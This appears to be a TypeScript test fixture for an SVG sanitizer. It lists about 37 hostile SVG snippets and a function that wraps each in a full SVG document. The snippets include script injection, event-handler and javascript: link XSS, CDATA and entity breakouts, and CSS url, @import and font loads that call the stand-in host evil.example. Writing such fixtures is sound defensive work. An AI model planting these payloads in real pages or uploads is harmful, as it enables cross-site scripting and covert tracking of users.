const XMLNS = 'http://www.w3.org/2000/svg'

/** Drawings that try to run something or to ask another host, by what they try. */
export const SVG_ATTACKS: Readonly<Record<string, string>> = {
  'an address without a function': '<rect fill="https://evil.example/a.png" style="fill:https://evil.example/b.png"/>',
  'a script': '<script>alert(1)</script><script href="//evil.example/y.js"/>',
  'a script of another prefix': `<x:script xmlns:x="${XMLNS}">alert(1)</x:script>`,
  'a script in an encoded style': '<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>',
  'a script in the CDATA of a style': '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  'a handler in an encoded style': '<style>&#60;/style>&#x3c;g onload="alert(1)"/></style>',
  'a handler in the CDATA of a title': '<title><![CDATA[</title><g onload="alert(1)"/>]]></title>',
  'a handler in an encoded text': '<text>&lt;g onload=&quot;alert(1)&quot;/&gt;</text>',
  'a value that ends its attribute': '<rect id="&quot; onload=&quot;alert(1)" class="a&#10;onload=x"/>',
  'a tag that does not end': '<rect width="1" onload="alert(1)',
  'a comment that ends twice': '<!--> --!><script>alert(1)</script> -->',
  'a processing instruction': '<?xml-stylesheet href="https://evil.example/a.css"?><rect/>',
  HTML: '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
  'an element of XHTML':
    '<g xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example" onerror="alert(1)"/></g>',
  'a namespace for the whole':
    '<g xmlns:xlink="https://evil.example" xml:base="https://evil.example/"><use href="#a"/></g>',
  'another picture': '<image href="https://evil.example/a.png"/><feImage href="https://evil.example"/>',
  'an animation of a link': '<a href="#b"><set attributeName="href" to="javascript:alert(1)"/></a>',
  'a handler that animates': '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
  'a link that runs': '<a href="java&#10;script:alert(1)"><rect/></a>',
  'a part of another file': '<use href="https://evil.example/a.svg#b"/><use xlink:href="data:image/svg+xml,x#b"/>',
  'two links of one element': '<use href="#a" xlink:href="https://evil.example/b.svg#b"/>',
  'a paint from another file': '<rect fill="url(https://evil.example/a#b)" style="fill:url( \'//evil.example\')"/>',
  'a second address of a paint': '<rect fill="url(#a) url(https://evil.example)"/>',
  'an escaped address': '<rect style="fill:u\\72l(https://evil.example)" fill="\\75 rl(//evil.example)"/>',
  'a set of pictures': '<rect style="mask:image-set(\'https://evil.example/a.png\' 1x)"/>',
  'a source function': '<rect style="filter:src(\'https://evil.example/a\')" mask="src(&quot;//evil.example&quot;)"/>',
  'a picture function': '<rect style="mask:image(ltr \'https://evil.example/a.png\');fill:element(#x)"/>',
  'a value of its own': '<rect style="--a:url(https://evil.example);fill:var(--a)"/>',
  'a style with an import': '<style>@import "https://evil.example/a.css";@import url(//evil.example);</style>',
  'a style with an address': '<style>rect{fill:url(https://evil.example);mask:image-set("//evil.example" 1x)}</style>',
  'a style with a font': '<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}</style>',
  'a style inside a comment': '<style>/*}*/rect{/*;*/fill:u/**/rl(//evil.example)}</style>',
  'a style inside another': '<style>g{rect{fill:url(https://evil.example)}}</style>',
  'a style in capitals': '<STYLE>@import "https://evil.example/a.css";</STYLE><rect STYLE="fill:url(//evil.example)"/>',
  'a style that follows the reader': '<style>rect[id^="a"]{fill:src("//evil.example/a")}</style>',
  'own entities': '<!DOCTYPE svg [<!ENTITY a "evil">]><rect/>',
  'characters that no document may hold': '<text>&#0;&#8;&#xFFFE;\u0001\u{D800}x</text>',
}

/** A document around each of them. */
export const attacking = (inner: string): string =>
  `<svg xmlns="${XMLNS}" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><g id="a"/></defs>${inner}</svg>`
